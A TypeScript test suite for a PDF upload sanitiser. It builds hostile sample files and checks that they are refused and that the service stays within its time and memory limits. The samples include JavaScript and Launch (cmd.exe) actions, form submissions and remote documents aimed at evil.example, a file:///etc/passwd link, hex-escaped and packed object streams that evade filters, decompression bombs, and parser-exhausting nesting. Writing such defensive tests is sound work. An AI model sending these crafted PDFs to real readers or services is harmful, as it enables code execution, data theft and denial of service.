import { deflateSync } from 'node:zlib';
import { Refusal } from '@usdt-africa/kernel';
import { Gate } from './gate.js';
import { checkUpload } from './index.js';
import { cleanPdf } from './pdf.js';

/** A document of one page. Later objects of a number take the place of earlier ones, as in an updated file. */
function pdf(objects: string, catalog = '', trailer = ''): Buffer {
  return Buffer.from(
    `%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R${catalog}>> endobj\n` +
      '2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/Annots[4 0 R]>> endobj\n' +
      `${objects}\ntrailer <</Root 1 0 R${trailer}>>\nstartxref\n0\n%%EOF\n`,
    'latin1',
  );
}

const link = (action: string): Buffer => pdf(`4 0 obj <</Type/Annot/Subtype/Link/A ${action}>> endobj`);

const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`);

/** An object stream that holds one object, as number 5. */
function packed(
  object: string,
  filters = '/FlateDecode',
  encode = (bytes: Buffer): Buffer => deflateSync(bytes),
): string {
  const data = encode(Buffer.from(`5 0 ${object}`, 'latin1')).toString('latin1');
  return `6 0 obj <</Type/ObjStm/N 1/First 4/Filter ${filters}/Length ${data.length}>>\nstream\n${data}\nendstream endobj`;
}

async function codeOf(bytes: Buffer): Promise<string> {
  try {
    await cleanPdf(bytes);
    return 'accepted';
  } catch (error) {
    if (!(error instanceof Refusal)) throw error;
    return error.code;
  }
}

const ACTIVE: Readonly<Record<string, Buffer>> = {
  'an action when it is opened': pdf('', '/OpenAction <</S/JavaScript/JS(app.alert(1))>>'),
  'a place to go to when it is opened': pdf('', '/OpenAction[3 0 R/Fit]'),
  'its action by reference': pdf('5 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj', '/OpenAction 5 0 R'),
  'its action spelled with capitals in hex': pdf('', '/#4F#70#65nAction 3 0 R'),
  'its action spelled with small letters in hex': pdf('', '/#4f#70#65n#41ction 3 0 R'),
  'its action escaped twice': pdf('', '/OpenActio#236e 3 0 R'),
  'a program spelled in hex': pdf('5 0 obj <</S/J#61v#61Script/J#53(1)>> endobj'),
  'a program in a stream': pdf('5 0 obj <</Length 3>>\nstream\n1+1\nendstream endobj\n6 0 obj <</JS 5 0 R>> endobj'),
  'programs by name': pdf('', '/Names<</JavaScript 5 0 R>>'),
  'a name that is an object of its own': pdf('5 0 obj /JavaScript endobj\n6 0 obj <</S 5 0 R>> endobj'),
  'further actions of the document': pdf('', '/AA<</WC 5 0 R>>'),
  'further actions of a page': pdf('3 0 obj <</Type/Page/Parent 2 0 R/AA<</O 5 0 R>>>> endobj'),
  'actions with comments between': pdf('4 0 obj <</A%x\n<</S%y\n/Launch%z\n/F(cmd.exe)>>>> endobj'),
  'a program to start': link('<</S/Launch/F(cmd.exe)>>'),
  'another document': link('<</S/GoToR/F(http://evil.example/a.pdf)/D[0/Fit]>>'),
  'an embedded document': link('<</S/GoToE/T<</R/C>>>>'),
  'a form that is sent': link('<</S/SubmitForm/F(http://evil.example)>>'),
  'a form that is filled from elsewhere': link('<</S/ImportData/F(a.fdf)>>'),
  'an action that does not exist yet': link('<</S/Whatever>>'),
  'a link that is a program': link('<</S/URI/URI(javascript:alert(1))>>'),
  'a link to a file': link('<</S/URI/URI(file:///etc/passwd)>>'),
  'a link in hex': link(`<</S/URI/URI<${Buffer.from('javascript:1').toString('hex')}>>>`),
  'an action behind a harmless one': link('<</S/GoTo/D[3 0 R/Fit]/Next<</S/Whatever>>>>'),
  'an action behind a harmless one, in a row': link('<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo>><</S/Whatever>>]>>'),
  'an attached file': pdf('4 0 obj <</Subtype/FileAttachment/FS 5 0 R>> endobj'),
  'an embedded file': pdf('5 0 obj <</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream endobj'),
  'embedded files by name': pdf('', '/Names<</EmbeddedFiles 5 0 R>>'),
  'a folder of files': pdf('', '/Collection<</View/D>>'),
  'a file by its address': pdf('5 0 obj <</FS/URL/F(http://evil.example/)>> endobj'),
  'bytes that come from elsewhere': pdf('5 0 obj <</Length 0/F(http://evil.example/)>>\nstream\n\nendstream endobj'),
  'a page of another document': pdf('5 0 obj <</Length 0/Ref<</F(a.pdf)/Page 0>>>>\nstream\n\nendstream endobj'),
  'a form of its own kind': pdf('', '/AcroForm<</XFA 5 0 R>>'),
  'a form of its own kind in hex': pdf('', '/AcroForm<</#58FA[(a)5 0 R]>>'),
  'a film': pdf('4 0 obj <</Subtype/RichMedia>> endobj'),
  'a screen': pdf('4 0 obj <</Subtype/Screen/A<</S/Rendition>>>> endobj'),
  'a program for a printer': pdf('5 0 obj <</Subtype/PS/Length 1>>\nstream\n1\nendstream endobj'),
  'an action in a packed object': pdf(packed('<</S/JavaScript/JS(1)>>')),
  'an action packed in hex': pdf(packed('<</S/Launch>>', '/ASCIIHexDecode', hex)),
  'an action packed twice': pdf(
    packed('<</S/Launch>>', '[/ASCIIHexDecode/FlateDecode]', (bytes) => hex(deflateSync(bytes))),
  ),
  'a packed action in hex in a packed object': pdf(packed('<</#53/#4caunch>>')),
  'an action that an update adds': Buffer.concat([
    pdf(''),
    Buffer.from('1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n'),
  ]),
  'an action that an update only seems to take away': pdf('5 0 obj <</S/Launch>> endobj\n5 0 obj <<>> endobj'),
  'a document in the bytes of a stream': pdf(
    '5 0 obj <</Length 40>>\nstream\n\n7 0 obj <</S/JavaScript/JS(1)>> endobj  \nendstream endobj',
  ),
  'a catalogue in the trailer itself': Buffer.from(
    '%PDF-1.7\n2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R>> endobj\n' +
      'trailer <</Root <</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>>>\n%%EOF\n',
  ),
};

describe('a hostile document', () => {
  it.each(Object.entries(ACTIVE))('SEC-09 HELP-03 is refused with %s', async (_what, bytes) => {
    expect(await codeOf(bytes)).toBe('file-active');
  });

  it('SEC-09 HELP-03 is distinguished from a harmless one with links, forms, outlines and layers', async () => {
    for (const bytes of [
      link('<</S/URI/URI(https://bank.example/terms)>>'),
      link('<</S/URI/URI(mailto:help@bank.example)>>'),
      link('<</S/GoTo/D[3 0 R/Fit]>>'),
      pdf('4 0 obj <</Subtype/Widget/FT/Tx/V(Ada)/BS<</S/S>>>> endobj', '/AcroForm<</Fields[4 0 R]>>'),
      pdf('5 0 obj <</S/P/A<</O/Layout>>>> endobj', '/StructTreeRoot<</K 5 0 R>>/PageLabels<</Nums[0<</S/D>>]>>'),
      pdf('3 0 obj <</Type/Page/Parent 2 0 R/Group<</S/Transparency/CS/DeviceRGB>>>> endobj'),
    ])
      expect(await codeOf(bytes)).toBe('accepted');
  });

  it('SEC-09 HELP-03 leaves no hidden objects behind that only another PDF reader would find', async () => {
    // By the cross-reference table, in which object 5 is inside a string.
    const cleaned = (
      await cleanPdf(pdf('9 0 obj (5 0 obj <</S/JavaScript>> endobj) endobj\n% <</S/Launch>>'))
    ).toString('latin1');
    expect(cleaned.match(/startxref/g)).toHaveLength(1);
    expect(cleaned).not.toContain('Launch');
    const offsets = [...cleaned.matchAll(/^(\d{10}) \d{5} n/gm)].map(([, offset]) => Number(offset));
    expect(offsets.length).toBeGreaterThan(3);
    for (const offset of offsets) expect(cleaned.slice(offset)).toMatch(/^\d+ 0 obj/);
  });

  it('SEC-10 HELP-03 is refused within its time and memory, while the calling process continues', async () => {
    const files = {
      'a million escapes': pdf(`5 0 obj <<${'/#41#42#43 1'.repeat(330_000)}>> endobj`),
      'a million escapes in one name': pdf(`5 0 obj /${'#41'.repeat(1_000_000)} endobj`),
      'a million streams without end': Buffer.from(`%PDF-1.7\n${'5 0 obj <<>>\nstream\n'.repeat(300_000)}%%EOF`),
      'a million arrays in each other': pdf(`5 0 obj ${'['.repeat(1_000_000)}${']'.repeat(1_000_000)} endobj`),
      'pages that are their own parents': pdf('2 0 obj <</Type/Pages/Kids[2 0 R]/Parent 2 0 R>> endobj'),
    };
    let longest = 0;
    let last = performance.now();
    const beat = setInterval(() => {
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    }, 10);
    for (const [what, bytes] of Object.entries(files)) {
      last = performance.now();
      const began = performance.now();
      const outcome = await checkUpload(bytes, 'a client').then(
        () => 'accepted',
        (error: Refusal) => error.code,
      );
      expect([what, outcome]).toEqual([
        what,
        expect.stringMatching(/^(accepted|file-broken|file-too-complex|file-active)$/),
      ]);
      expect(performance.now() - began).toBeLessThan(45_000);
    }
    clearInterval(beat);
    // The 38 s before the fix blocked all other requests; half a second is due to this busy machine.
    expect(longest).toBeLessThan(3_000);
  }, 240_000);

  it('SEC-10 HELP-03 is refused before it is parsed when it unpacks to too much, or has too many objects or escapes', async () => {
    const zeros = deflateSync(Buffer.alloc(400_000_000));
    const files = {
      '400 MB': pdf(packed('', '/FlateDecode', () => zeros)),
      '400 MB in hex': pdf(packed('', '[/ASCIIHexDecode/FlateDecode]', () => hex(zeros))),
      '400 MB under escaped names': pdf(packed('', '/Fl#61teDecode', () => zeros).replace('/ObjStm', '/Obj#53tm')),
      'escapes in names': pdf(`5 0 obj <<${'/#41#42#43 1'.repeat(700_000)}>> endobj`),
      'empty objects': pdf(Array.from({ length: 400_000 }, (_, index) => `${index + 5} 0 obj<<>>endobj`).join(' ')),
      'a filter that no writer packs objects with': pdf(packed('<<>>', '/LZWDecode')),
    };
    for (const [what, bytes] of Object.entries(files)) {
      const before = process.cpuUsage();
      expect([what, await codeOf(bytes)]).toEqual([what, 'file-too-complex']);
      // Parsing one of them takes ten seconds of a processor and more.
      const { user, system } = process.cpuUsage(before);
      expect(user + system).toBeLessThan(4_000_000);
    }
  });

  it('SEC-10 HELP-03 is read one at a time for each client, and other clients do not wait for it', async () => {
    const gate = new Gate(2, 12, 4);
    const ends: (() => void)[] = [];
    let running: string[] = [];
    const run = (client: string) =>
      gate.run(client, async () => {
        running.push(client);
        await new Promise<void>((resolve) => ends.push(resolve));
        running = running.filter((one) => one !== client);
      });
    const hostile = Array.from({ length: 4 }, () => run('hostile'));
    await expect(run('hostile')).rejects.toMatchObject({ status: 503, code: 'uploads-busy' });
    const honest = run('honest');
    await Promise.resolve().then(() => undefined);
    expect(running).toEqual(['hostile', 'honest']);
    for (const end of [0, 1, 2, 3, 4]) {
      while (!ends[end]) await Promise.resolve();
      ends[end]();
    }
    await Promise.all([...hostile, honest]);
    expect(running).toEqual([]);
  });

  it('SEC-10 HELP-03 a limited number of files is read at once, and further uploads get a retry response', async () => {
    const outcomes = await Promise.all(
      Array.from({ length: 20 }, (_, index) =>
        checkUpload(pdf(''), `client ${index}`).then(
          () => 'accepted',
          (error: Refusal) => `${error.status} ${error.code} ${error.extra.retryAfterSeconds}`,
        ),
      ),
    );
    expect(outcomes.filter((outcome) => outcome === 'accepted')).toHaveLength(14);
    expect(outcomes.filter((outcome) => outcome !== 'accepted')).toEqual(Array(6).fill('503 uploads-busy 5'));
  }, 120_000);
});
